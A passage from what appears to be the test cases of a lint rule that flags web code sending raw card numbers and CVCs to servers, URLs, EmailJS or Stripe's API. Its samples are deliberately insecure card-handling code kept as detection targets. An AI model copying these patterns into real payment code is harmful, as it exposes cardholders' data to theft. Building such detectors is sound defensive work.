        { messageId: 'rawCardToOwnServer', data: { client: 'Mithril', endpoint: 'POST /api/payments', field: 'cardNumber', what: 'card number (PAN)' }, line: 10, column: 15, endLine: 10, endColumn: 25 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Mithril', endpoint: 'POST /api/payments', field: 'cvc', what: 'card security code (CVC)' }, line: 10, column: 52, endLine: 10, endColumn: 55 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Backbone.ajax', endpoint: 'POST /charges', field: 'card_number', what: 'card number (PAN)' }, line: 21, column: 15, endLine: 21, endColumn: 26 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Backbone.ajax', endpoint: 'POST /charges', field: 'cvv', what: 'card security code (CVC)' }, line: 21, column: 49, endLine: 21, endColumn: 52 },
      ],
    },
    {
      // Encodings that hide nothing, in a URL's query and in a body (real-world batch 331): \`btoa(JSON.stringify(card))\`
      // as a parameter (also held in a const), a JSON Web Token's payload (jsonwebtoken's \`jwt.sign\`, jose's \`SignJWT\`),
      // base64url-encoded in the clear
      code: `import jwt from 'jsonwebtoken';
import { SignJWT } from 'jose';

type Card = { cardNumber: string; expiry: string; cvv: string };

export function continueToCheckout(card: Card, amount: number) {
  const token = btoa(JSON.stringify({ cardNumber: card.cardNumber, cvv: card.cvv, expiry: card.expiry, amount }));
  window.location.href = '/checkout/confirm?token=' + token;
}

export async function payWithToken(card: Card) {
  const token = jwt.sign({ cardNumber: card.cardNumber, cvv: card.cvv }, process.env.NEXT_PUBLIC_JWT_SECRET!);
  return fetch('/api/pay', { method: 'POST', body: JSON.stringify({ token }) });
}

export async function goToPayment(card: Card) {
  const token = await new SignJWT({ paymentDetails: { cardNumber: card.cardNumber, cvv: card.cvv } })
    .setProtectedHeader({ alg: 'HS256' })
    .setExpirationTime('15m')
    .sign(new TextEncoder().encode(process.env.NEXT_PUBLIC_JWT_SECRET!));
  window.location.href = \`/account/payment?token=\${token}\`;
}
`,
      filename: 'src/lib/checkout.ts',
      output: null,
      errors: [
        { messageId: 'rawCardInUrl', data: { client: 'window.location.href', endpoint: '/checkout/confirm', field: 'token.cardNumber', what: 'card number (PAN)' }, line: 7, column: 39, endLine: 7, endColumn: 49, suggestions: [] },
        { messageId: 'rawCardInUrl', data: { client: 'window.location.href', endpoint: '/checkout/confirm', field: 'token.cvv', what: 'card security code (CVC)' }, line: 7, column: 68, endLine: 7, endColumn: 71, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'token.cardNumber', what: 'card number (PAN)' }, line: 12, column: 28, endLine: 12, endColumn: 38, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'token.cvv', what: 'card security code (CVC)' }, line: 12, column: 57, endLine: 12, endColumn: 60, suggestions: [] },
        { messageId: 'rawCardInUrl', data: { client: 'window.location.href', endpoint: '/account/payment', field: 'token.paymentDetails.cardNumber', what: 'card number (PAN)' }, line: 17, column: 55, endLine: 17, endColumn: 65, suggestions: [] },
        { messageId: 'rawCardInUrl', data: { client: 'window.location.href', endpoint: '/account/payment', field: 'token.paymentDetails.cvv', what: 'card security code (CVC)' }, line: 17, column: 84, endLine: 17, endColumn: 87, suggestions: [] },
      ],
    },
    {
      // A server that sends the card to another gateway in a body a helper of the file builds: an XML text, its options
      // object built by another helper (PSiGate), and a JSON text (real-world batch 332)
      code: `import request from 'request';

function generatePSIData(paymentInfo, amount) {
  return \`<?xml version="1.0" encoding="UTF-8"?>
    <Order>
      <StoreID>\${process.env.PSIGATE_STORE_ID}</StoreID>
      <PaymentType>CC</PaymentType>
      <CardNumber>\${paymentInfo.cardNumber}</CardNumber>
      <CardExpMonth>\${paymentInfo.expDate.substring(0, 2)}</CardExpMonth>
      <CardExpYear>\${paymentInfo.expDate.substring(3, 5)}</CardExpYear>
      <CardIDNumber>\${paymentInfo.cvc}</CardIDNumber>
      <Subtotal>\${amount}</Subtotal>
    </Order>\`;
}

function optionsFor(paymentInfo, amount) {
  return {
    url: 'https://realtimestaging.psigate.com/xml',
    method: 'POST',
    headers: { 'Content-Type': 'text/xml' },
    body: generatePSIData(paymentInfo, amount),
  };
}

export function psiGatePurchase(paymentInfo, amount) {
  return new Promise((resolve, reject) => {
    request(optionsFor(paymentInfo, amount), (error, response, body) => (error ? reject(error) : resolve(body)));
  });
}

function chargeBody(paymentInfo, amount) {
  return JSON.stringify({ amount, card_number: paymentInfo.cardNumber, cvv: paymentInfo.cvc });
}

export async function gatewayCharge(paymentInfo, amount) {
  const response = await fetch('https://api.example-gateway.com/v1/charges', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: chargeBody(paymentInfo, amount) });
  return response.json();
}
`,
      filename: 'controllers/payment-process/psi-gate/handler.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'request-library', endpoint: 'POST realtimestaging.psigate.com/xml', what: 'card number (PAN)', field: 'CardNumber' }, line: 8, column: 21, endLine: 8, endColumn: 43, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'request-library', endpoint: 'POST realtimestaging.psigate.com/xml', what: 'card security code (CVC)', field: 'CardIDNumber' }, line: 11, column: 23, endLine: 11, endColumn: 38, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.example-gateway.com/v1/charges', what: 'card number (PAN)', field: 'card_number' }, line: 32, column: 35, endLine: 32, endColumn: 46, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.example-gateway.com/v1/charges', what: 'card security code (CVC)', field: 'cvv' }, line: 32, column: 72, endLine: 32, endColumn: 75, suggestions: [] },
      ],
    },
    {
      // The app's own HTTP service injected into an Ionic page by its class (\`ApisService\` of the app's module), its
      // \`httpPost\` given Stripe's tokens endpoint and the card (real-world batch 334)
      code: `import { Component } from '@angular/core';
import { ApisService } from 'src/app/services/apis.service';

@Component({ selector: 'app-add-card', templateUrl: './add-card.page.html' })
export class AddCardPage {
  cnumber: any = '';
  cvc: any = '';
  date: any = '';

  constructor(private api: ApisService) {}

  addcard() {
    const year = this.date.split('-')[0];
    const month = this.date.split('-')[1];
    const param = {
      'card[number]': this.cnumber,
      'card[exp_month]': month,
      'card[exp_year]': year,
      'card[cvc]': this.cvc,
    };
    this.api.httpPost('https://api.stripe.com/v1/tokens', param).subscribe((data: any) => {
      console.log(data.id);
    });
  }
}
`,
      filename: 'src/app/pages/add-card/add-card.page.ts',
      output: null,
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: '`this.api`', endpoint: 'POST /v1/tokens', field: 'card[number]', what: 'card number (PAN)' }, line: 16, column: 7, endLine: 16, endColumn: 21, suggestions: [] },
        { messageId: 'rawCardOverHttp', data: { client: '`this.api`', endpoint: 'POST /v1/tokens', field: 'card[cvc]', what: 'card security code (CVC)' }, line: 19, column: 7, endLine: 19, endColumn: 18, suggestions: [] },
      ],
    },
    {
      // A copy of an Angular form's value (\`structuredClone(this.cardForm.value)\`) posted (real-world batch 334)
      code: `import { Component } from '@angular/core';
import { HttpClient } from '@angular/common/http';
import { FormControl, FormGroup } from '@angular/forms';

@Component({ selector: 'app-add-card', templateUrl: './add-card.component.html' })
export class AddCardComponent {
  cardForm = new FormGroup({ holder: new FormControl(''), cardNumber: new FormControl(''), cvc: new FormControl('') });

  constructor(private http: HttpClient) {}

  save(): void {
    const card = structuredClone(this.cardForm.value);
    this.http.post('/api/cards', card).subscribe();
  }
}
`,
      filename: 'src/app/add-card/add-card.component.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST /api/cards', field: 'cardNumber, cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 13, column: 34, endLine: 13, endColumn: 38, suggestions: [] },
      ],
    },
    {
      // Cards copied with a spread in an Apollo resolver's helpers (real-world batch 331): a parameter spread into
      // \`card\`, placed where the resolver passes the card's fields, and a card the file cannot read copied beside its
      // expiry made numbers, given to a method that takes only a raw card
      code: `const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);

async function attachCard(customerId, cardDetails) {
  const paymentMethod = await stripe.paymentMethods.create({ type: 'card', card: { ...cardDetails } });
  await stripe.paymentMethods.attach(paymentMethod.id, { customer: customerId });
  return paymentMethod;
}

function createCardToken(card) {
  return stripe.tokens.create({ card: { ...card, exp_month: Number(card.exp_month), exp_year: Number(card.exp_year) } });
}

module.exports = {
  Mutation: {
    addCard: (_, { customerId, number, cvc, expMonth, expYear }) =>
      attachCard(customerId, { number, cvc, exp_month: expMonth, exp_year: expYear }),
    tokenizeCard: (_, { card }) => createCardToken(card),
  },
};
`,
      filename: 'src/graphql/resolvers/cards.js',
      languageOptions: { parser: espree, parserOptions: { sourceType: 'commonjs', ecmaVersion: 'latest' } } as const,
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card details (number, expiry date and CVC)', field: 'card' }, line: 10, column: 44, endLine: 10, endColumn: 48, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.number', what: 'card number (PAN)' }, line: 16, column: 32, endLine: 16, endColumn: 38, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 16, column: 40, endLine: 16, endColumn: 43, suggestions: [] },
      ],
    },
    {
      // A server helper that tokenizes whatever its route hands it; in a test file, no test-card suggestion edits the
      // helper that other callers share.
      code: `import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);

const createCardToken = async (card) => stripe.tokens.create({ card });

it('tokenizes a card', async () => {
  const token = await createCardToken({ number: '4242424242424242', exp_month: 12, exp_year: 2030, cvc: '123' });
  expect(token.id).toMatch(/^tok_/);
});
`,
      filename: 'test/tokens.test.js',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', field: 'card.number', what: 'card number (PAN)' }, line: 8, column: 41, endLine: 8, endColumn: 47, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 8, column: 100, endLine: 8, endColumn: 103, suggestions: [] },
      ],
    },
    {
      // A WordPress plugin's script: jQuery taken as \`$\` by the noConflict wrapper (real-world batch BR)
      code: `/* global bookingForm */
(function ($) {
  'use strict';

  $(document).on('click', '.booking-pay-button', function (e) {
    e.preventDefault();
    var $form = $(this).closest('.booking-card-form');
    $.ajax({
      type: 'POST',
      url: bookingForm.ajaxurl,
      data: {
        action: 'booking_pay_by_card',
        card: {
          number: $form.find('input.card-number').val(),
          cvc: $form.find('input.card-cvc').val(),
          exp_month: $form.find('select.card-exp-month').val(),
          exp_year: $form.find('select.card-exp-year').val(),
        },
      },
    });
  });
})(jQuery);`,
      filename: 'assets/js/booking.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST a URL computed at run time', what: 'card number (PAN)', field: 'card.number' }, line: 14, column: 11, endLine: 14, endColumn: 17 },
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST a URL computed at run time', what: 'card security code (CVC)', field: 'card.cvc' }, line: 15, column: 11, endLine: 15, endColumn: 14 },
      ],
    },
    {
      // A Meteor client calling its own server's method with the card read from its own inputs (real-world batch BO)
      code: `import { Meteor } from 'meteor/meteor';
import React from 'react';

export default class Payments extends React.Component {
  subscribe(plan) {
    const customer = {
      plan,
      card: {
        number: $('[name="cardNumber"]').val(),
        cvc: $('[name="cvc"]').val(),
        exp_month: $('[name="expMonth"]').val(),
        exp_year: $('[name="expYear"]').val(),
      },
    };
    Meteor.call('createCustomer', customer, (error, result) => {
      if (error) alert(error.reason);
    });
  }
  render() { return null; }
}`,
      filename: 'client/payments.jsx',
      languageOptions: { parserOptions: { ecmaFeatures: { jsx: true } } },
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'Meteor', endpoint: "the method 'createCustomer'", what: 'card number (PAN)', field: 'card.number' }, line: 9, column: 9, endLine: 9, endColumn: 15 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Meteor', endpoint: "the method 'createCustomer'", what: 'card security code (CVC)', field: 'card.cvc' }, line: 10, column: 9, endLine: 10, endColumn: 12 },
      ],
    },
    {
      // XMLHttpRequest to Stripe's tokens endpoint with a form-encoded card (a limitation until the twenty-third session)
      code: `export function tokenize(number, cvc, done) {
  const xhr = new XMLHttpRequest();
  xhr.open('POST', 'https://api.stripe.com/v1/tokens');
  xhr.setRequestHeader('Authorization', 'Bearer ' + window.STRIPE_PK);
  xhr.onload = () => done(JSON.parse(xhr.responseText));
  xhr.send('card[number]=' + number + '&card[cvc]=' + cvc);
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'XMLHttpRequest', endpoint: 'POST /v1/tokens', what: 'card number (PAN) and card security code (CVC)', field: 'card[number], card[cvc]' },
          line: 6,
          column: 12,
          endLine: 6,
          endColumn: 58,
        },
      ],
    },
    {
      // A hand-made card form posted with XMLHttpRequest: the body carries the card to the app's own server
      code: `document.getElementById('pay-form').addEventListener('submit', function (event) {
  event.preventDefault();
  var payload = {
    amount: 4900,
    cardNumber: document.getElementById('card-number').value,
    cvc: document.getElementById('card-cvc').value,
  };
  var xhr = new XMLHttpRequest();
  xhr.open('POST', '/api/charge');
  xhr.setRequestHeader('Content-Type', 'application/json');
  xhr.onload = function () { window.location = '/thanks'; };
  xhr.send(JSON.stringify(payload));
});
`,
      filename: 'public/js/checkout.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'XMLHttpRequest', endpoint: 'POST /api/charge', what: 'card number (PAN)', field: 'cardNumber' }, line: 5, column: 5, endLine: 5, endColumn: 15 },
        { messageId: 'rawCardToOwnServer', data: { client: 'XMLHttpRequest', endpoint: 'POST /api/charge', what: 'card security code (CVC)', field: 'cvc' }, line: 6, column: 5, endLine: 6, endColumn: 8 },
      ],
    },
    {
      // A card form e-mailed out with EmailJS: its API gets the card (real-world batch 88), through the SDK's default
      // export, its \`send\` imported alone, and the CDN build's global in a page's script; a number e-mailed without a
      // CVC or expiry is not known to be a payment card's (batch 90), as in a URL
      code: `import emailjs, { send } from '@emailjs/browser';

export async function submitPayment(form) {
  const params = { name: form.name.value, cardNumber: form.cardNumber.value, cvv: form.cvv.value };
  await emailjs.send('service_pay', 'template_card', params, { publicKey: 'pk_emailjs' });
  await send('service_pay', 'template_copy', { cardNumber: form.cardNumber.value });
}
`,
      filename: 'src/payment.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'EmailJS', endpoint: 'POST api.emailjs.com/api/v1.0/email/send', what: 'card number (PAN)', field: 'cardNumber' }, line: 4, column: 43, endLine: 4, endColumn: 53 },
        { messageId: 'rawCardToOwnServer', data: { client: 'EmailJS', endpoint: 'POST api.emailjs.com/api/v1.0/email/send', what: 'card security code (CVC)', field: 'cvv' }, line: 4, column: 78, endLine: 4, endColumn: 81 },
      ],
    },
    {
      code: `document.getElementById('pay').addEventListener('submit', function (event) {
  event.preventDefault();
  emailjs.send('service_pay', 'template_card', {
    card_number: document.getElementById('card-number').value,
    expiry: document.getElementById('expiry').value,
  });
});
`,
      filename: 'public/js/pay.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'EmailJS', endpoint: 'POST api.emailjs.com/api/v1.0/email/send', what: 'card number (PAN)', field: 'card_number' }, line: 4, column: 5, endLine: 4, endColumn: 16 },
      ],
    },
    {
      // A path that names another kind of card does not clear a CVC sent with the number: paying a membership by card
      code: `import axios from 'axios';

export async function payMembership(cardNumber: string, cvc: string, plan: string) {
  return axios.post('/api/membership/card', { plan, cardNumber, cvc });
}
`,
      filename: 'src/membership.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/membership/card', what: 'card number (PAN)', field: 'cardNumber' }, line: 4, column: 53, endLine: 4, endColumn: 63 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/membership/card', what: 'card security code (CVC)', field: 'cvc' }, line: 4, column: 65, endLine: 4, endColumn: 68 },
      ],
    },
    {
      // A form's state, posted whole, spread or under a key: its fields are the keys it starts with (React's useState,
      // Vue's reactive and ref)
      code: `import { useState } from 'react';
import { reactive, ref } from 'vue';
import axios from 'axios';

export function CardForm({ amount }) {
  const [form, setForm] = useState({ cardNumber: '', expiry: '', cvc: '', name: '' });
  const [card] = useState(() => ({ number: '', cvc: '' }));
  async function submit() {
    await axios.post('/api/pay', form);
    await fetch('/api/pay', { method: 'POST', body: JSON.stringify({ ...form, amount }) });
    await axios.post('/api/charge', { amount, card });
  }
  return submit;
}

const vueForm = reactive({ cardNumber: '', cvv: '' });
const vueCard = ref({ number: '', cvc: '' });
export const submitVue = () => Promise.all([axios.post('/api/pay', vueForm), axios.put('/api/card', vueCard.value)]);
`,
      filename: 'src/CardForm.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvc' }, line: 9, column: 34, endLine: 9, endColumn: 38 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvc' }, line: 10, column: 73, endLine: 10, endColumn: 77 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/charge', what: 'card number (PAN) and card security code (CVC)', field: 'card.number, card.cvc' }, line: 11, column: 47, endLine: 11, endColumn: 51 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvv' }, line: 18, column: 68, endLine: 18, endColumn: 75 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'PUT /api/card', what: 'card number (PAN) and card security code (CVC)', field: 'number, cvc' }, line: 18, column: 101, endLine: 18, endColumn: 114 },
      ],
    },
    {
      // An AngularJS controller's \`$scope\` field, filled from the page in one function and posted (a copy of it) in
      // another (real-world batch 237: angular-stripe's README shape)
      code: `angular.module('shop').controller('PaymentCtrl', function ($scope, $http) {
  $scope.fill = function () {
    $scope.payment = { card: { number: $('#card-number').val(), cvc: $('#card-cvc').val() }, amount: 200 };
  };
  $scope.charge = function () {
    return $http.post('/stripe/charge', angular.copy($scope.payment));
  };
});
`,
      filename: 'public/js/payment.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /stripe/charge', what: 'card number (PAN)', field: 'card.number' }, line: 3, column: 32, endLine: 3, endColumn: 38 },
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /stripe/charge', what: 'card security code (CVC)', field: 'card.cvc' }, line: 3, column: 65, endLine: 3, endColumn: 68 },
      ],
    },
    {
      // Nuxt's auto-imported \`$fetch\` and \`useFetch\`, whose object body is sent as JSON (real-world batch 243); the
      // last four digits alone are no card data
      code: `export const useCheckoutStore = defineStore('checkout', () => {
  async function pay(cardNumber, cvc, amount) {
    await $fetch('/api/pay', { method: 'POST', body: { cardNumber, cvc, amount } });
    await useFetch('/api/orders', { method: 'POST', body: { amount, last4: cardNumber.slice(-4) } });
  }
  return { pay };
});
`,
      filename: 'stores/checkout.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '$fetch', endpoint: 'POST /api/pay', what: 'card number (PAN)', field: 'cardNumber' }, line: 3, column: 56, endLine: 3, endColumn: 66 },
        { messageId: 'rawCardToOwnServer', data: { client: '$fetch', endpoint: 'POST /api/pay', what: 'card security code (CVC)', field: 'cvc' }, line: 3, column: 68, endLine: 3, endColumn: 71 },
      ],
    },
    {
      // A Vuex module's state read in an action (real-world batch 243), by the object the module's state starts it as;
      // the coupon is no card data
      code: `import axios from 'axios';

export default {
  namespaced: true,
  state: () => ({ cardUserDetails: { name: '', number: '', cvc: '', expiry: '' }, coupon: { code: '' } }),
  actions: {
    async pay({ state }) {
      await axios.post('/api/pay', state.cardUserDetails);
      await axios.post('/api/coupon', state.coupon);
    },
  },
};
`,
      filename: 'store/modules/card.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/pay', what: 'card number (PAN) and card security code (CVC)', field: 'number, cvc' }, line: 8, column: 36, endLine: 8, endColumn: 57 },
      ],
    },
    {
      // A Pinia options store's state read in its actions as this.<key> (real-world batch 243), posted with $fetch; its
      // coupon is no card data
      code: `import { defineStore } from 'pinia';

export const useCheckoutStore = defineStore('checkout', {
  state: () => ({ formState: { name: '', cardNumber: '', expiryDate: '', cvv: '' }, coupon: '' }),
  actions: {
    async pay() {
      await $fetch('/api/pay', { method: 'POST', body: this.formState });
    },
    async applyCoupon() {
      await $fetch('/api/coupon', { method: 'POST', body: { code: this.coupon } });
    },
  },
});
`,
      filename: 'stores/checkout.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '$fetch', endpoint: 'POST /api/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvv' }, line: 7, column: 56, endLine: 7, endColumn: 70 },
      ],
    },
    {
      // A Svelte store's value read once with get(store), posted (real-world batch 239): the store's initial keys
      code: `import { writable, get } from 'svelte/store';

export const payment = writable({ cardNumber: '', expiry: '', cvc: '' });

export async function submitPayment() {
  await fetch('/api/pay', { method: 'POST', body: JSON.stringify(get(payment)) });
}
`,
      filename: 'src/lib/stores/payment.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvc' }, line: 6, column: 66, endLine: 6, endColumn: 78 },
      ],
    },
    {
      // react-apollo 3's and Relay's useMutation, whose mutate function takes \`{ variables }\` as Apollo Client's does
      // (real-world batch 241)
      code: `import { useMutation } from 'react-apollo';
import { graphql, useMutation as useRelayMutation } from 'react-relay';
import gql from 'graphql-tag';

const SAVE_CARD = gql\`mutation SaveCard($cardNumber: String!, $cvc: String!) { saveCard(cardNumber: $cardNumber, cvc: $cvc) { id } }\`;

export function useSaveCard() {
  const [saveCard] = useMutation(SAVE_CARD);
  const [commit] = useRelayMutation(graphql\`mutation useSaveCardMutation($input: CardInput!) { saveCard(input: $input) { id } }\`);
  return (cardNumber, cvc) => Promise.all([saveCard({ variables: { cardNumber, cvc } }), commit({ variables: { input: { cardNumber, cvc } } })]);
}
`,
      filename: 'src/hooks/useSaveCard.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'Apollo Client', endpoint: 'the GraphQL API', what: 'card number (PAN)', field: 'cardNumber' }, line: 10, column: 68, endLine: 10, endColumn: 78 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Apollo Client', endpoint: 'the GraphQL API', what: 'card security code (CVC)', field: 'cvc' }, line: 10, column: 80, endLine: 10, endColumn: 83 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Relay', endpoint: 'the GraphQL API', what: 'card number (PAN)', field: 'input.cardNumber' }, line: 10, column: 121, endLine: 10, endColumn: 131 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Relay', endpoint: 'the GraphQL API', what: 'card security code (CVC)', field: 'input.cvc' }, line: 10, column: 133, endLine: 10, endColumn: 136 },
      ],
    },
    {
      // GraphQL: a React Native screen saves the card through urql and Apollo mutations, and through a hook
      // graphql-codegen generated (real-world batch AK); their variables are the body, the endpoint is the app's
      // GraphQL API
      code: `import React, { useState } from 'react';
import { gql, useMutation } from '@apollo/client';
import { useMutation as useUrqlMutation } from 'urql';
import { useSaveCardMutation } from '@move/core';

const SAVE_CARD = gql\`
  mutation SaveCard($userId: ID!, $cardNumber: String!, $cvv: String!, $expiryMonth: Int!, $expiryYear: Int!) {
    saveCard(userId: $userId, cardNumber: $cardNumber, cvv: $cvv, expiryMonth: $expiryMonth, expiryYear: $expiryYear) { id }
  }
\`;

export function SaveCard({ userId }) {
  const [card, setCard] = useState({ cardNumber: '', cvv: '', expiryMonth: 1, expiryYear: 2030 });
  const [, saveCard] = useUrqlMutation(SAVE_CARD);
  const [saveWithApollo] = useMutation(SAVE_CARD);
  const [{ fetching }, saveGenerated] = useSaveCardMutation();
  return async () => {
    await saveCard({ userId, ...card });
    await saveWithApollo({ variables: { userId, cardNumber: card.cardNumber, cvv: card.cvv } });
    if (!fetching) await saveGenerated({ userId, cvv: card.cvv });
  };
}
`,
      filename: 'packages/app/src/screens/SaveCard.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'urql', endpoint: 'the GraphQL API', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvv' }, line: 18, column: 33, endLine: 18, endColumn: 37 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Apollo Client', endpoint: 'the GraphQL API', what: 'card number (PAN)', field: 'cardNumber' }, line: 19, column: 49, endLine: 19, endColumn: 59 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Apollo Client', endpoint: 'the GraphQL API', what: 'card security code (CVC)', field: 'cvv' }, line: 19, column: 78, endLine: 19, endColumn: 81 },
        { messageId: 'rawCardToOwnServer', data: { client: 'GraphQL client', endpoint: 'the GraphQL API', what: 'card security code (CVC)', field: 'cvv' }, line: 20, column: 50, endLine: 20, endColumn: 53 },
      ],
    },
    {
      // A GraphQL resolver builds the card from its arguments and replaces it only when a saved card is asked for
      // (real-world batch AM): on the other path the raw card reaches tokens.create
      code: `import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);

export async function payTicket(_: unknown, args: { cardNumber: string; cardCvc: string; expMonth: number; expYear: number; cardId?: string }) {
  let card: Stripe.TokenCreateParams.Card | { id: string } = { number: args.cardNumber, exp_month: String(args.expMonth), exp_year: String(args.expYear), cvc: args.cardCvc };
  if (args.cardId) card = await savedCard(args.cardId);
  const token = await stripe.tokens.create({ card } as Stripe.TokenCreateParams);
  return token.id;
}

async function savedCard(id: string) {
  return { id };
}
`,
      filename: 'src/graphql/resolvers/payment.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' }, line: 6, column: 64, endLine: 6, endColumn: 70 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'card.cvc' }, line: 6, column: 155, endLine: 6, endColumn: 158 },
      ],
    },
    {
      // A `let` given the card on one path only (sixty-eighth session): every object that can reach the request is read,
      // not only the one every path writes.
      code: `import axios from 'axios';

export async function checkout(form, method) {
  let payment = { method };
  if (method === 'card') payment = { method, card_number: form.cardNumber, cvv: form.cvv, expiry: form.expiry };
  return axios.post('/api/orders/pay', payment);
}
`,
      filename: 'src/checkout/pay.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/orders/pay', field: 'card_number', what: 'card number (PAN)' }, line: 5, column: 46, endLine: 5, endColumn: 57 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/orders/pay', field: 'cvv', what: 'card security code (CVC)' }, line: 5, column: 76, endLine: 5, endColumn: 79 },
      ],
    },
    {
      // The card object is built by a helper of the file: a function, a static method called by its class's name, an
      // async method awaited on \`this\` (real-world batch AV: a microservice's gateway class)
      code: `import StripeSdk from 'stripe';

type CardInput = { digits: string; cvc: string; expMonth: number; expYear: number };
const cardData = (b: CardInput) => ({ type: 'card' as const, card: { number: b.digits, exp_month: b.expMonth, exp_year: b.expYear } });

export class Gateway {
  private sdk = new StripeSdk(process.env.STRIPE_KEY!);

  static buildCardData({ digits, cvc, expMonth, expYear }: CardInput) {
    return { number: digits, cvc, exp_month: expMonth, exp_year: expYear };
  }

  async addCard(input: CardInput) {
    const card = Gateway.buildCardData(input);
    return this.sdk.paymentMethods.create({ type: 'card', card });
  }

  private async cardFrom(input: CardInput) {
    return { number: input.digits, cvc: input.cvc };
  }

  async token(input: CardInput) {
    return this.sdk.tokens.create({ card: await this.cardFrom(input) });
  }

  attach(input: CardInput) {
    return this.sdk.setupIntents.update('seti_1', { payment_method_data: cardData(input) });
  }
}
`,
      filename: 'src/payment-gateway/stripe.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.setupIntents.update', what: 'card number (PAN)', field: 'payment_method_data.card.number' }, line: 4, column: 70, endLine: 4, endColumn: 76 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' }, line: 10, column: 14, endLine: 10, endColumn: 20 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' }, line: 10, column: 30, endLine: 10, endColumn: 33 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' }, line: 19, column: 14, endLine: 19, endColumn: 20 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'card.cvc' }, line: 19, column: 36, endLine: 19, endColumn: 39 },
      ],
    },
    {
      // A `let` declared empty and replaced by the card before it is posted (real-world batch AR): the assignment
      // runs on every path to the request
      code: `import axios from 'axios';

export async function submitOrder(form, cart) {
  let payment = null;
  payment = {
    card_number: form.cardNumber.replace(/\\s/g, ''),
    expiry: form.expiry,
